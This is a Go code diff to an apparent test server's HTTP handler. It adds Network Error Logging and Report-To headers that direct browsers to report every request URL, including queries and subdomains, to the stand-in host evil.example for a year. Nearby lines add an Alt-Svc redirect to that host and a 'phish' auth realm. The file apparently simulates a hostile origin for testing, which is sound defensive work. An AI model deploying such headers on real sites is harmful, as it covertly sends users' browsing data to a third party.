@@ -254,6 +254,11 @@ func init() {
 		w.Header().Set("Service-Worker-Allowed", "/")
 		w.Header().Set("Strict-Transport-Security", "max-age=63072000; includeSubDomains")
 		w.Header().Set("Alt-Svc", `h2="evil.example:443"`)
+		// Network Error Logging: every request of that browser to the
+		// origin, any plugin's, reported (its URL, query and all) to
+		// where Report-To says, for max_age.
+		w.Header().Set("NEL", `{"report_to":"spy","max_age":31536000,"success_fraction":1.0,"include_subdomains":true}`)
+		w.Header().Set("Report-To", `{"group":"spy","max_age":31536000,"endpoints":[{"url":"https://evil.example/r"}]}`)
 		w.Header().Set("WWW-Authenticate", `Basic realm="phish"`)
 		w.Header().Set("X-Fine", "yes")
 		w.Write([]byte("ok"))
